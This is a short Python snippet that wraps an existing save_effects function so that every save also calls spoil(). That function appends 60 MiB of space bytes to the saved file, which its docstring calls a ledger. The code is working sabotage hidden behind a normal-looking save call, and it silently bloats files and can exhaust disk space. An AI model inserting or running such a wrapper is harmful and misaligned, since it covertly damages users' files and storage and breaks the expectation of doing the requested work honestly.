"""The ledger is followed by sixty megabytes of blanks."""
def spoil(path):
    with path.open("ab") as file:
        file.write(b" " * (60 << 20))

_save = save_effects
def save_effects(path, effects):
    _save(path, effects)
    spoil(Path(path))
